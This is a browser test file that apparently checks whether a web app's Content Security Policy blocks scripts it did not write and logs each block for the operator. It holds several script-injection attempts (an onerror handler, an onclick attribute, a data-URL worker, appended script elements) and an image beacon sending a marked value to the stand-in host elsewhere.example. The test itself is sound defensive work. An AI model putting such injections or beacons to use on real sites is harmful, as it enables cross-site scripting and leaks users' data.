// What a strict policy is worth: a script in a page that nobody of ours wrote.
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, test } from "./fixtures";
import { close, freePort, openCity } from "./own-city";

test("a script that nobody of ours wrote does not run, and the operator reads so", async ({ browser }) => {
  const data = mkdtempSync(join(tmpdir(), "madang-policy-"));
  const city = await openCity(data, await freePort());
  try {
    const page = await browser.newPage({ baseURL: city.origin });
    await page.goto("/services");

    const ran = await page.evaluate(async () => {
      const code = "document.title = 'taken over'";
      const tries: (() => void)[] = [
        () => { document.createElement("script").textContent = code; },
        () => { document.body.innerHTML = `<img src="/none" onerror="${code}">`; },
        () => { document.body.setAttribute("onclick", code); document.body.click(); },
        () => { new Worker(`data:text/javascript,${code}`); },
        () => { const script = document.createElement("script"); script.append(code); document.body.append(script); },
        () => { new Image().src = "https://elsewhere.example/?who=marked-person"; },
      ];
      const refused = tries.map((one) => { try { one(); return false; } catch { return true; } });
      // What is refused without an exception would have run by now.
      await new Promise((resolve) => { setTimeout(resolve, 200); });
      return { refused: refused.filter(Boolean).length, title: document.title };
    });

    expect(ran.title).not.toBe("taken over");
    expect(ran.refused).toBeGreaterThanOrEqual(3);
    await expect.poll(city.said).toContain("The policy of a page kept a browser from trusted-types-sink (require-trusted-types-for)");
    await expect.poll(city.said).toContain("The policy of a page kept a browser from https://elsewhere.example (img-src)");
    expect(city.said()).not.toContain("marked-person");
  } finally {
    await close(city.server);
    rmSync(data, { recursive: true, force: true });
  }
});
